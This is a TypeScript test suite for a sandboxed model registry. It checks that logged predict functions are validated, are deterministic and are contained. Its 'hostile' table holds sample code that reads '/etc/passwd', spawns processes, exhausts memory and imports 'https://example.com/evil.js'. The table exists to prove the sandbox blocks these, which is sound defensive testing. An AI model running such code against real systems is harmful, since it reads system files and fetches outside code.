import { expect, test } from "vitest";
import {
  type FeatureRow,
  type Models,
  type ModelSignature,
  openModels,
  registryClient,
  registryHandler,
} from "../models/mod.ts";
import { openStore, type Store } from "../store/mod.ts";
import { typescriptHost } from "./typescript_host.ts";

interface Bench extends AsyncDisposable {
  dir: string;
  store: Store;
  models: Models;
}

const ROOT = new URL("../..", import.meta.url).pathname.replace(/\/$/, "");

async function setup(dir = Deno.makeTempDirSync(), hasHost = true): Promise<Bench> {
  const store = await openStore({ kind: "directory", dir });
  const models = await openModels({ store, dir, ...(hasHost && { typescript: typescriptHost(ROOT) }) });
  return { dir, store, models, [Symbol.asyncDispose]: () => models[Symbol.asyncDispose]() };
}

const SOURCE = `
interface Row { km: number; route: string; late: boolean }
export function predict(rows: Row[]) {
  return rows.map(({ km, route, late }) => ({ minutes: km / 2 + (late ? 10 : 0), text: route.toLowerCase() }));
}`;
const EXAMPLE = { km: 10, route: "ORD", late: true };

test("log() takes code that exports predict, and load() runs it", async () => {
  await using bench = await setup();
  const { version, signature, digest } = await bench.models.log("rule", {
    typescript: { source: SOURCE },
    example: EXAMPLE,
  });
  expect(signature).toEqual({
    inputs: [{ name: "km", type: "double" }, { name: "route", type: "string" }, { name: "late", type: "boolean" }],
    outputs: [{ name: "minutes", type: "double" }, { name: "text", type: "string" }],
  });
  const model = await bench.models.load<Record<string, unknown>>(`rule@${version}`);
  expect(model.digest).toBe(digest);
  expect(await model.predict([EXAMPLE, { ...EXAMPLE, km: 1, late: false, other: 7 }])).toEqual([
    { minutes: 15, text: "ord" },
    { minutes: 0.5, text: "ord" },
  ]);
  await expect(model.predict([{ ...EXAMPLE, km: "1" }])).rejects.toThrow(
    'column "km" must be a finite number: got "1"',
  );
  const many = {
    km: Array.from({ length: 2500 }, (_, i) => i),
    route: Array(2500).fill("A"),
    late: Array(2500).fill(false),
  };
  expect((await model.predict(many)).map(({ minutes }) => minutes)).toEqual(many.km.map((km) => km / 2));
  const again = await bench.models.log("rule", { typescript: { source: SOURCE }, example: EXAMPLE });
  expect(again.version).toBe("1");
  const other = SOURCE.replace("km / 2", "km / 3");
  expect((await bench.models.log("rule", { typescript: { source: other }, example: EXAMPLE })).version).toBe("2");
});

test("MLmodel says bundle, entry, lock and JSON Schema of code, and nothing for Python", async () => {
  await using bench = await setup();
  await bench.models.log("rule", { typescript: { source: SOURCE, budgetMs: 500 }, example: EXAMPLE });
  await using handler = registryHandler({ store: bench.store, dir: bench.dir });
  const client = registryClient(handler);
  const { source } = await client.getVersion("rule", "1");
  const text = new TextDecoder().decode(await client.getArtifact(`${source}/MLmodel`));
  expect(text).toMatch(
    /flavors:\n {2}typescript_function:\n {4}code: null\n {4}data: model.js\n {4}entry: predict\n {4}lock: [0-9a-f]{64}/,
  );
  expect(text).toMatch(/properties:\n {10}km:\n {12}type: number/);
  expect(text).toContain("budgetMs: 500");
  expect(text).not.toContain("python_function");
  expect(new TextDecoder().decode(await client.getArtifact(`${source}/model.js`))).toContain("toLowerCase");
});

test("code may import packages that deno.json names, and answers one value where it answers no record", async () => {
  await using bench = await setup();
  const source = `import { z } from "zod";
    const row = z.object({ n: z.number() });
    export const predict = async (rows: unknown[]) => rows.map((one) => row.parse(one).n + 1);`;
  await bench.models.log("next", { typescript: { source }, example: { n: 1 } });
  expect(await (await bench.models.load("next@1")).predict([{ n: 41 }])).toEqual([42]);
});

test("a signature says what may be missing, and whole numbers are whole", async () => {
  await using bench = await setup();
  const source = "export const predict = (rows) => rows.map(({ n, gap }) => gap === null ? null : n)";
  const signature: ModelSignature = {
    inputs: [{ name: "n", type: "long" }, { name: "gap", type: "double", nullable: true }],
    outputs: [{ name: "n", type: "long", nullable: true }],
  };
  await bench.models.log("gaps", { typescript: { source }, example: { n: 1, gap: 1 }, signature });
  const model = await bench.models.load("gaps@1");
  expect(await model.predict([{ n: 7n, gap: 0.5 }, { n: 7 }])).toEqual([7, null]);
  await expect(model.predict([{ n: 2n ** 60n, gap: 1 }])).rejects.toThrow('"n" must be a whole number of at most 2^53');
});

test("time stands still in code, and chance repeats itself: the same rows get the same answers", async () => {
  await using bench = await setup();
  const source = "export const predict = (rows) => rows.map(({ n }) => Math.random() + Date.now() + n)";
  await bench.models.log("dice", { typescript: { source }, example: { n: 0 } });
  const model = await bench.models.load("dice@1");
  const [first] = await model.predict([{ n: 0 }]);
  expect(first).toBeLessThan(1);
  expect(await model.predict([{ n: 0 }])).toEqual([first]);
  await using again = await setup(bench.dir);
  expect(await (await again.models.load("dice@1")).predict([{ n: 0 }])).toEqual([first]);
});

/** Answers its example, and does as the case says once \`n\` is not 0. */
const when = (body: string) =>
  `export async function predict(rows: { n: number }[]) {
  if (rows[0].n === 0) return [0];
  ${body}
}`;
const hostile: [string, string, string][] = [
  ["throws", 'throw new RangeError("no such route")', "the function threw RangeError: no such route"],
  ["never ends", "for (;;);", "its code must answer: "],
  ["never answers", "await new Promise(() => {})", "its code must answer: "],
  ["fills its memory", "const held = []; for (;;) held.push(new Array(1e6).fill(rows))", "its code must answer: "],
  [
    "never answers and holds more than it may",
    "const held = new Uint8Array(150e6).fill(1); await new Promise(() => {}); return [held.length]",
    "within the budget of 3000 ms: the function had not ended, and its process had grown by ",
  ],
  ["wants the network", 'await fetch("http://127.0.0.1:1")', "its code must answer: "],
  ["wants files", 'return [Deno.readTextFileSync("/etc/passwd").length]', "its code must answer: "],
  ["wants the environment", "return [Deno.env.get('HOME').length]", "its code must answer: "],
  ["wants a process", 'new Deno.Command("true").spawn()', "its code must answer: "],
  ["wants other code", 'const url = "https://example.com/evil.js"; await import(url)', "its code must answer: "],
  ["answers fewer rows", "return []", "as its code must answer a list of 1, one per row: got 0"],
  ["answers more rows", "return [1, 2]", "one per row: got 2"],
  ["answers no list", "return { 0: 1, length: 1 }", 'one per row: got {"0":1,"length":1}'],
  ["answers nothing", "return undefined", "must be JSON: got undefined"],
  ["answers texts", 'return ["1"]', 'must answer finite numbers as "output": got "1" at row 0'],
  ["answers NaN", "return [NaN]", "code must answer"],
  ["answers null", "return [null]", 'must answer finite numbers as "output": got null at row 0'],
  ["answers a record", "return [{ output: 1 }]", 'as "output": got {"output":1} at row 0'],
];
for (const [name, body, message] of hostile) {
  test(`predict() survives code that ${name}`, async () => {
    await using bench = await setup();
    // Only what must be ended for time has little of it, and even that enough for the example on a busy machine.
    const typescript = {
      source: when(body),
      budgetMs: name.startsWith("never") ? 3_000 : 30_000,
      memoryBytes: 2 ** 26,
    };
    await bench.models.log("odd", { typescript, example: { n: 0 } });
    const model = await bench.models.load("odd@1");
    const error = await model.predict([{ n: 1 }]).then(() => new Error("answered"), (cause) => cause as Error);
    expect(error).not.toBeInstanceOf(TypeError); // those blame the rows
    expect(error.message).toMatch(/^Cannot predict with "odd@1" as /);
    expect(error.message).toContain(message);
    expect(await model.predict([{ n: 0 }])).toEqual([0]);
  });
}

const refused: [string, string, FeatureRow, string][] = [
  ["no predict", "export const answer = 1", { n: 1 }, "its code must export a function predict(rows)"],
  [
    "no TypeScript",
    "export const predict = (",
    { n: 1 },
    'Cannot bundle function "odd" as its source must be TypeScript: Unexpected',
  ],
  [
    "a package of nobody",
    'import "left-pad-of-nobody"; export const predict = (rows) => rows',
    { n: 1 },
    "left-pad-of-nobody",
  ],
  ["Node", 'import fs from "node:fs"; export const predict = () => [fs]', { n: 1 }, "without files, network and Node"],
  ["code that fails as it is loaded", 'throw new Error("odd"); export const predict = (rows) => rows', { n: 1 }, "odd"],
  ["no function", "export const predict = 7", { n: 1 }, "its code must export a function predict(rows)"],
  ["an example of lists", "export const predict = (rows) => rows.map(() => 1)", { n: [1] }, 'got [1] as "n"'],
  [
    "no example",
    "export const predict = (rows) => rows.map(() => 1)",
    {},
    "its example must be of numbers, texts and booleans: got none",
  ],
  ["lists as answers", "export const predict = (rows) => rows.map(() => [1])", { n: 1 }, 'got [1] as "output"'],
  [
    "null as answer",
    "export const predict = (rows) => rows.map(() => null)",
    { n: 1 },
    "give a signature where values may be null",
  ],
];
for (const [name, source, example, message] of refused) {
  test(`log() refuses ${name}, and nothing is registered`, async () => {
    await using bench = await setup();
    await expect(bench.models.log("odd", { typescript: { source }, example })).rejects.toThrow(message);
    expect(await bench.models.list()).toEqual([]);
  });
}

test("log() refuses what a typescript model does not take, and says where it belongs", async () => {
  await using bench = await setup();
  const source = when("");
  const log = (typescript: object, signature?: object) =>
    bench.models.log("odd", { typescript, example: { n: 0 }, signature } as never);
  await expect(log({ source, signature: {} })).rejects.toThrow(
    'Cannot log "odd" as typescript takes source, budgetMs and memoryBytes: got signature; write it beside typescript',
  );
  const [n, output] = [{ name: "n", type: "double", required: false }, { name: "output", type: "double" }];
  await expect(log({ source }, { inputs: [n], outputs: [output] })).rejects.toThrow(
    'Cannot log "odd" as a column of its signature takes name, type and nullable: got required of "n"; ' +
      "write nullable: true where a value may be missing",
  );
  expect(await bench.models.list()).toEqual([]);
});

test("log() refuses limits that the sandbox has not", async () => {
  await using bench = await setup();
  const log = (limits: object) =>
    bench.models.log("odd", { typescript: { source: when(""), ...limits }, example: { n: 0 } });
  await expect(log({ budgetMs: 0 })).rejects.toThrow("budgetMs");
  await expect(log({ budgetMs: 1e9 })).rejects.toThrow("budgetMs");
  await expect(log({ memoryBytes: 2 ** 40 })).rejects.toThrow("memoryBytes");
  await expect(log({ source: 7 })).rejects.toThrow("typescript.source must be a text: got number");
});

test("code is neither logged nor loaded without a sandbox, and altered code is found by its digest", async () => {
  await using bench = await setup();
  await bench.models.log("rule", { typescript: { source: SOURCE }, example: EXAMPLE });
  await using bare = await setup(bench.dir, false);
  await expect(bare.models.load("rule@1")).rejects.toThrow(
    'Cannot load "rule@1" as a typescript_function runs in a sandbox',
  );
  await expect(bare.models.log("r", { typescript: { source: SOURCE }, example: EXAMPLE })).rejects.toThrow(
    "got none in this process",
  );
  await using handler = registryHandler({ store: bench.store, dir: bench.dir });
  const client = registryClient(handler);
  const { source } = await client.getVersion("rule", "1");
  await client.putArtifact(`${source}/model.js`, new TextEncoder().encode("export default () => [{}]"));
  await using again = await setup(bench.dir);
  await expect(again.models.load("rule@1")).rejects.toThrow("its content must have the digest");
});

test("load() refuses a schema that is not the signature's", async () => {
  await using bench = await setup();
  await bench.models.log("rule", { typescript: { source: SOURCE }, example: EXAMPLE });
  await using handler = registryHandler({ store: bench.store, dir: bench.dir });
  const client = registryClient(handler);
  const { source, run_id } = await client.getVersion("rule", "1");
  const text = new TextDecoder().decode(await client.getArtifact(`${source}/MLmodel`));
  await client.putArtifact(`${source}/MLmodel`, new TextEncoder().encode(text.replace("type: number", "type: string")));
  await client.ensureModel("of others");
  await client.createVersion({ name: "of others", source, runId: run_id, tags: {} });
  await expect(bench.models.load("of others@1")).rejects.toThrow("its schema must be that of its signature");
});
